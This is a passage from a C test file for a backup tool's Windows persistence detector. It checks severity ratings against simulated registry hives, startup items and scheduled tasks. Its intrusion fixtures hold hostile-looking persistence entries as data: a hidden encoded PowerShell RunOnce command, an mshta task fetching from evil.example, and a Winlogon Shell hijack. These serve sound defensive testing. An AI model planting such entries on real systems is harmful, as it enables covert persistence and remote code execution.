+    put_task(win, TASKS "Microsoft/Windows/Updates/Refresh" + 1,
+             "<ComHandler><ClassId>{A}</ClassId></ComHandler>", "");
+    bo.time_ns = 1700000000000000000ll;
+    REQUIRE(cr_backup(&a, w.repo, paths, 1, &bo) == 0);
+
+    static const char *day1[] = {SW, SY, ALICE, DEFUSER, STARTUP "desktop.ini",
+                                 STARTUP "Helper.lnk",
+                                 TASKS "Microsoft/Windows/Defrag/ScheduledDefrag",
+                                 TASKS "Microsoft/Windows/Updates/Refresh"};
+    for (size_t i = 0; i < sizeof(day1) / sizeof(day1[0]); i++)
+        judge(&w, NULL, a, day1[i]);
+    for (size_t i = 0; i < w.ctx.nout; i++)
+        CHECK(w.ctx.out[i].severity == CR_SEV_INFO);
+    CHECK(count_on(&w, SW, CR_SEV_INFO) == 3);
+    CHECK(count_on(&w, SY, CR_SEV_INFO) == 1);
+    f = found(&w, SW, "persistence:run-key", RUNKEY "SecurityHealth");
+    CHECK(f && f->category == CR_CAT_PERSISTENCE && f->has_content &&
+          strstr(f->detail, "SecurityHealthSystray.exe"));
+    CHECK(found(&w, SY, "persistence:service", "ControlSet001\\Services\\Tcpip\\ImagePath"));
+    CHECK(found(&w, SW, "persistence:winlogon",
+                "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell"));
+    CHECK(found(&w, STARTUP "Helper.lnk", "persistence:startup-folder", NULL));
+    f = found(&w, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag", "persistence:scheduled-task",
+              NULL);
+    CHECK(f && strstr(f->detail, "runs %windir%\\system32\\defrag.exe -c -h -o -$"));
+    CHECK(w.ctx.nout == 3 + 1 + 1 + 1 + 2 + 2);
+    CHECK(warnings == 0);
+    next_run(&w);
+
+    /* Day 2: an intrusion, and ordinary changes. */
+    put_hive(win, "Windows/System32/config/SOFTWARE",
+             "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"SecurityHealth\": "
+             "{\"expand\": \"%windir%\\\\system32\\\\SecurityHealthSystray.exe\"},"
+             "   \"Tool\": \"\\\"C:\\\\Program Files\\\\Tool\\\\tool.exe\\\" -tray\","
+             "   \"Evil\": \"C:\\\\Users\\\\Public\\\\evil.exe\"},"
+             " \"Microsoft/Windows/CurrentVersion/RunOnce\": {\"Enc\": "
+             "   \"powershell.exe -nop -w hidden -enc SQBFAFgA\"},"
+             " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": "
+             "   \"explorer.exe, C:\\\\Windows\\\\x.exe\", \"Userinit\": "
+             "   \"C:\\\\Windows\\\\system32\\\\userinit.exe,\"},"
+             " \"Classes/.txt\": {\"\": \"txtfile\"}}}");
+    put_hive(win, "Windows/System32/config/SYSTEM",
+             "{\"keys\": {\"Select\": {\"Current\": 1}, \"ControlSet001/Services/Tcpip\": "
+             "{\"ImagePath\": {\"expand\": \"System32\\\\drivers\\\\tcpip.sys\"}},"
+             " \"ControlSet001/Services/NewSvc\": {\"ImagePath\": "
+             "   \"\\\"C:\\\\Program Files\\\\Vendor\\\\svc.exe\\\"\"},"
+             " \"ControlSet001/Services/BadSvc\": {\"ImagePath\": \"C:\\\\ProgramData\\\\b.exe\"},"
+             " \"ControlSet001/Services/WinDefend\": {\"ImagePath\": \"\\\"C:\\\\ProgramData\\\\"
+             "Microsoft\\\\Windows Defender\\\\Platform\\\\4.18.1-0\\\\MsMpEng.exe\\\"\"}}}");
+    /* alice's hive is damaged (cut short); bob is a new profile, made from Default. */
+    {
+        /* Make it larger than its first bin: a hive of 3 pages, cut inside the last. */
+        char big[12000];
+        int k = snprintf(big, sizeof(big), "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/"
+                                           "Run\": {\"OneDrive\": \"x.exe\"}, \"Software/Big\": "
+                                           "{\"Blob\": {\"binary\": \"");
+        for (int i = 0; i < 5000; i++)
+            k += snprintf(big + k, sizeof(big) - (size_t)k, "00");
+        snprintf(big + k, sizeof(big) - (size_t)k, "\"}}}}");
+        make_hive(&buf, big);
+        REQUIRE(buf.len > 0x2000);
+    }
+    put_file(win, "Users/alice/NTUSER.DAT", buf.ptr, buf.len - 1000);
+    put_hive(win, "Users/bob/NTUSER.DAT",
+             "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/RunOnce\": {"
+             " \"OneDriveSetup\": \"C:\\\\Windows\\\\System32\\\\OneDriveSetup.exe /thfirstsetup\"},"
+             " \"Software/Microsoft/Windows/CurrentVersion/Run\": {\"Helper\": "
+             "   \"\\\"C:\\\\Program Files\\\\H\\\\h.exe\\\"\"}}}");
+    put_file(win, STARTUP "evil.bat" + 1, "@echo off\r\n", 11);
+    put_file(win, STARTUP "Helper.lnk" + 1, "L\0\0\0lnk-v2", 10);
+    put_task(win, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag" + 1, DEFRAG,
+             "<Author>Microsoft</Author>");
+    put_task(win, TASKS "Evil" + 1,
+             "<Exec><Command>mshta.exe</Command><Arguments>http://evil.example/a.hta"
+             "</Arguments></Exec>", "");
+    put_task(win, TASKS "Vendor Update" + 1,
+             "<Exec><Command>\"C:\\Program Files\\Vendor\\upd.exe\"</Command></Exec>", "");
+    put_task(win, TASKS "Microsoft/Windows/Updates/Other" + 1,
+             "<ComHandler><ClassId>{B}</ClassId></ComHandler>", "");
+    {
+        uint8_t job[0x46 + 2 + 24 + 2 + 6];
+        memset(job, 0, sizeof(job));
+        size_t o = 0x46;
+        job[o] = 12; /* "C:\evil.exe" + NUL */
+        o += 2;
+        for (const char *p = "C:\\evil.exe"; *p; p++, o += 2)
+            job[o] = (uint8_t)*p;
+        o += 2;
+        job[o] = 3; /* "-x" + NUL */
+        o += 2;
+        job[o] = '-';
+        job[o + 2] = 'x';
+        put_file(win, "Windows/Tasks/at1.job", job, sizeof(job));
+    }
+    bo.time_ns += 86400000000000ll;
+    REQUIRE(cr_backup(&b, w.repo, paths, 1, &bo) == 0);
+
+    static const char *day2[] = {SW,
+                                 SY,
+                                 ALICE,
+                                 BOB,
+                                 STARTUP "evil.bat",
+                                 STARTUP "Helper.lnk",
+                                 TASKS "Microsoft/Windows/Defrag/ScheduledDefrag",
+                                 TASKS "Evil",
+                                 TASKS "Vendor Update",
+                                 TASKS "Microsoft/Windows/Updates/Other",
+                                 "/Windows/Tasks/at1.job"};
+    for (size_t i = 0; i < sizeof(day2) / sizeof(day2[0]); i++)
+        judge(&w, a, b, day2[i]);
+    f = found(&w, SW, "persistence:run-key", RUNKEY "Tool");
+    CHECK(f && f->severity == CR_SEV_HIGH && strstr(f->detail, "tool.exe"));
+    f = found(&w, SW, "persistence:run-key", RUNKEY "Evil");
+    CHECK(f && f->severity == CR_SEV_CRITICAL);
+    f = found(&w, SW, "persistence:run-key", "Microsoft\\Windows\\CurrentVersion\\RunOnce\\Enc");
+    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "RunOnce"));
+    f = found(&w, SW, "persistence:winlogon",
+              "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell");
+    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "(was explorer.exe)"));
+    CHECK(!found(&w, SW, "persistence:winlogon",
+                 "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit"));
+    CHECK(!found(&w, SW, "persistence:run-key", RUNKEY "SecurityHealth"));
+    CHECK(count_on(&w, SW, CR_SEV_INFO) == 4);
+    f = found(&w, SY, "persistence:service", "ControlSet001\\Services\\NewSvc\\ImagePath");
+    CHECK(f && f->severity == CR_SEV_MEDIUM && strstr(f->detail, "NewSvc"));
+    f = found(&w, SY, "persistence:service", "ControlSet001\\Services\\BadSvc\\ImagePath");
+    CHECK(f && f->severity == CR_SEV_CRITICAL);
+    f = found(&w, SY, "persistence:service", "ControlSet001\\Services\\WinDefend\\ImagePath");
+    CHECK(f && f->severity == CR_SEV_MEDIUM);
+    CHECK(count_on(&w, SY, CR_SEV_INFO) == 3);
+    f = found(&w, ALICE, "anomaly:bad-hive", NULL);
+    CHECK(f && f->severity == CR_SEV_LOW && f->category == CR_CAT_ANOMALY &&
+          strstr(f->detail, "cut short"));
+    CHECK(warnings == 1 && strstr(last_warning, "/Users/alice/NTUSER.DAT: registry hive"));
+    f = found(&w, BOB, "persistence:run-key",
+              "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\OneDriveSetup");
+    CHECK(f && f->severity == CR_SEV_INFO && strstr(f->detail, "Default profile"));
+    f = found(&w, BOB, "persistence:run-key",
+              "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Helper");
+    CHECK(f && f->severity == CR_SEV_HIGH);
+    f = found(&w, STARTUP "evil.bat", "persistence:startup-folder", NULL);
+    CHECK(f && f->severity == CR_SEV_HIGH);
+    f = found(&w, STARTUP "Helper.lnk", "persistence:startup-folder", NULL);
+    CHECK(f && f->severity == CR_SEV_MEDIUM);
+    f = found(&w, TASKS "Microsoft/Windows/Defrag/ScheduledDefrag", "persistence:scheduled-task",
+              NULL);
+    CHECK(f && f->severity == CR_SEV_INFO && strstr(f->detail, "same actions"));
+    f = found(&w, TASKS "Evil", "persistence:scheduled-task", NULL);
+    CHECK(f && f->severity == CR_SEV_CRITICAL &&
+          strstr(f->detail, "runs mshta.exe http://evil.example/a.hta"));
+    f = found(&w, TASKS "Vendor Update", "persistence:scheduled-task", NULL);
+    CHECK(f && f->severity == CR_SEV_HIGH &&
+          strstr(f->detail, "runs \"C:\\Program Files\\Vendor\\upd.exe\""));
+    f = found(&w, TASKS "Microsoft/Windows/Updates/Other", "persistence:scheduled-task", NULL);
+    CHECK(f && f->severity == CR_SEV_MEDIUM && strstr(f->detail, "COM handler"));
+    f = found(&w, "/Windows/Tasks/at1.job", "persistence:scheduled-task", NULL);
+    CHECK(f && f->severity == CR_SEV_HIGH && strstr(f->detail, "runs C:\\evil.exe -x"));
+    next_run(&w);
+
+    /* Day 3: Windows rewrites SOFTWARE (one key more, nothing else); alice's hive
+     * is whole again, with one entry more; the Startup .lnk changes again. */
+    put_hive(win, "Windows/System32/config/SOFTWARE",
+             "{\"keys\": {\"Microsoft/Windows/CurrentVersion/Run\": {\"SecurityHealth\": "
+             "{\"expand\": \"%windir%\\\\system32\\\\SecurityHealthSystray.exe\"},"
+             "   \"Tool\": \"\\\"C:\\\\Program Files\\\\Tool\\\\tool.exe\\\" -tray\","
+             "   \"Evil\": \"C:\\\\Users\\\\Public\\\\evil.exe\"},"
+             " \"Microsoft/Windows/CurrentVersion/RunOnce\": {\"Enc\": "
+             "   \"powershell.exe -nop -w hidden -enc SQBFAFgA\"},"
+             " \"Microsoft/Windows NT/CurrentVersion/Winlogon\": {\"Shell\": "
+             "   \"explorer.exe, C:\\\\Windows\\\\x.exe\", \"Userinit\": "
+             "   \"C:\\\\Windows\\\\system32\\\\userinit.exe,\"},"
+             " \"Classes/.txt\": {\"\": \"txtfile\"}, \"Classes/.log\": {\"\": \"txtfile\"}}}");
+    put_hive(win, "Users/alice/NTUSER.DAT",
+             "{\"keys\": {\"Software/Microsoft/Windows/CurrentVersion/Run\": {\"OneDrive\": "
+             "\"\\\"C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\OneDrive\\\\"
+             "OneDrive.exe\\\" /background\", \"Tool2\": \"C:\\\\Program Files\\\\t2.exe\","
+             " \"Enc\": \"pwsh -EncodedCommand SQBFAFgA\"}}}");
+    put_file(win, STARTUP "Helper.lnk" + 1, "L\0\0\0lnk-v3", 10);
+    bo.time_ns += 86400000000000ll;
+    REQUIRE(cr_backup(&c, w.repo, paths, 1, &bo) == 0);
+    judge(&w, b, c, SW);
+    judge(&w, b, c, ALICE);
+    judge(&w, b, c, STARTUP "Helper.lnk");
+    /* The day-2 findings about SOFTWARE are all still there, unchanged, nothing else. */
+    CHECK(count_on(&w, SW, CR_SEV_INFO) == 4);
+    size_t again = 0;
+    for (size_t i = 0; i < w.nprev; i++) {
+        const cr_finding *pf = &w.prev[i];
+        if (strcmp(pf->path, SW) || pf->severity < CR_SEV_LOW)
+            continue;
+        f = found(&w, SW, pf->indicator, pf->evidence);
+        CHECK(f && f->severity == pf->severity && !strcmp(f->detail, pf->detail));
+        again++;
+    }
+    CHECK(again == 4);
+    f = found(&w, ALICE, "persistence:run-key",
+              "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Tool2");
+    CHECK(f && f->severity == CR_SEV_MEDIUM && strstr(f->detail, "could not be read"));
+    f = found(&w, ALICE, "persistence:run-key",
+              "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive");
+    CHECK(f && f->severity == CR_SEV_MEDIUM); /* in AppData, but maybe not new */
+    f = found(&w, ALICE, "persistence:run-key",
+              "Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Enc");
+    CHECK(f && f->severity == CR_SEV_CRITICAL);
+    CHECK(!found(&w, ALICE, "anomaly:bad-hive", NULL));
+    f = found(&w, STARTUP "Helper.lnk", "persistence:startup-folder", NULL);
+    CHECK(f && f->severity == CR_SEV_MEDIUM);
+
+    /* Not Windows persistence: nothing. */
+    size_t before = w.ctx.nout;
+    judge(&w, b, c, "/Windows/System32/config/SOFTWARE" + 0);
+    CHECK(w.ctx.nout > before);
+    before = w.ctx.nout;
+    CHECK_OK(hn_persist_windows(&w.ctx, "/Users/alice/Documents/NTUSER.DAT", NULL, NULL));
+    CHECK(w.ctx.nout == before);
+
+    cr_findings_free(w.ctx.out, w.ctx.nout);
+    cr_findings_free(w.prev, w.nprev);
+    cr_snapshot_free(a);
+    cr_snapshot_free(b);
+    cr_snapshot_free(c);
+    cr_repo_free(w.repo);
+    cr_buf_free(&buf);
+}
+
+int main(void)
+{
+    fx_scratch_new(scratch, "hive");
+    find_mkhive();
+    test_software();
+    test_ntuser();
+    test_system();
+    test_strings();
+    test_hostile_counts();
+    test_damaged();
+    test_windows();
+    fx_scratch_done(scratch);
+    return test_summary("test_hive");
+}
